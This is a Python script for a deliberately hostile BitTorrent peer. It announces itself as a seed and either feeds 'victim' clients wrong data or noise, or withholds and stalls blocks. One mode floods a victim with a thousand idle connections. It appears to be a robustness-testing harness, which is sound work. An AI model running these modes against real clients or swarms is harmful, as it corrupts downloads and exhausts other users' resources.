"""A peer that means no good, as a program of its own: `hostile_peer.py KIND INFO_HASH PIECES ADDRESS TRACKER [VICTIM...]`.

It announces itself as a seed, accepts whoever comes, and dials the victims. KIND:
  wrong     claims everything, and sends wrong data
  lacks     claims everything, and never sends a block
  garbage   shakes hands, and sends noise in every message
  takes     claims nothing, asks for everything, and gives nothing
  stalls    sends half of each block
  crowd     a thousand connections to the first victim that say nothing"""

import contextlib
import os
import random
import socket
import struct
import sys
import threading
import time
import urllib.parse
import urllib.request

PORT = 7999
BLOCK = 16384
CHOKE, UNCHOKE, INTERESTED, HAVE, BITFIELD, REQUEST, PIECE = 0, 1, 2, 4, 5, 6, 7


def exactly(connection, count):
    data = b""
    while len(data) < count:
        more = connection.recv(count - len(data))
        if not more:
            raise ConnectionError("closed")
        data += more
    return data


def message(kind, payload=b""):
    return struct.pack(">IB", 1 + len(payload), kind) + payload


class Peer:
    def __init__(self, kind, info_hash, pieces, address, tracker):
        self.kind, self.info_hash, self.pieces, self.address, self.tracker = kind, info_hash, pieces, address, tracker
        self.noise = random.Random(1)

    def handshake(self):
        return b"\x13BitTorrent protocol" + bytes(8) + self.info_hash + b"-XX0001-" + os.urandom(12)

    def announce(self):
        while True:
            query = urllib.parse.urlencode({"info_hash": self.info_hash, "peer_id": b"-XX0001-123456789012", "port": PORT, "uploaded": 0,
                                            "downloaded": 0, "left": 0, "compact": 1, "event": "started"})
            with contextlib.suppress(OSError):
                urllib.request.urlopen(f"{self.tracker}?{query}", timeout=5).read()
            time.sleep(3)

    def talk(self, connection, first):
        with connection, contextlib.suppress(OSError, struct.error):
            connection.settimeout(30)
            if first:
                connection.sendall(self.handshake())
            exactly(connection, 68)
            if not first:
                connection.sendall(self.handshake())
            if self.kind == "garbage":
                self.send_garbage(connection)
                return
            if self.kind != "takes":
                bits = bytearray(b"\xff" * ((self.pieces + 7) // 8))
                if self.pieces % 8:
                    bits[-1] = 0xff << (8 - self.pieces % 8) & 0xff
                connection.sendall(message(BITFIELD, bytes(bits)) + message(UNCHOKE))
            else:
                connection.sendall(message(INTERESTED))
            self.serve(connection)

    def send_garbage(self, connection):
        for _ in range(200):
            kind = self.noise.randrange(30)
            connection.sendall(message(kind, self.noise.randbytes(self.noise.randrange(64))))
        connection.sendall(b"\xff" * 64)

    def serve(self, connection):
        while True:
            length = struct.unpack(">I", exactly(connection, 4))[0]
            if length == 0:
                continue
            body = exactly(connection, length)
            if body[0] == UNCHOKE and self.kind == "takes":
                for piece in range(self.pieces):
                    connection.sendall(message(REQUEST, struct.pack(">III", piece, 0, BLOCK)))
            if body[0] != REQUEST:
                continue
            piece, begin, size = struct.unpack(">III", body[1:13])
            if self.kind == "wrong":
                connection.sendall(message(PIECE, struct.pack(">II", piece, begin) + self.noise.randbytes(min(size, 1 << 17))))
            elif self.kind == "stalls":
                whole = message(PIECE, struct.pack(">II", piece, begin) + bytes(min(size, 1 << 17)))
                connection.sendall(whole[: len(whole) // 2])
                time.sleep(30)

    def dial(self, victim):
        while True:
            with contextlib.suppress(OSError):
                self.talk(socket.create_connection((victim, 6881), 5), first=True)
            time.sleep(1)

    def crowd(self, victim):
        held = []
        while True:
            if len(held) < 1000:
                with contextlib.suppress(OSError):
                    held.append(socket.create_connection((victim, 6881), 2))
                    continue
            time.sleep(0.2)

    def run(self, victims):
        if self.kind == "crowd":
            self.crowd(victims[0])
        threading.Thread(target=self.announce, daemon=True).start()
        for victim in victims:
            threading.Thread(target=self.dial, args=(victim,), daemon=True).start()
        with socket.create_server((self.address, PORT)) as server:
            while True:
                connection, _ = server.accept()
                threading.Thread(target=self.talk, args=(connection, False), daemon=True).start()


def main():
    kind, info_hash, pieces, address, tracker, *victims = sys.argv[1:]
    Peer(kind, bytes.fromhex(info_hash), int(pieces), address, tracker).run(victims)


if __name__ == "__main__":
    main()
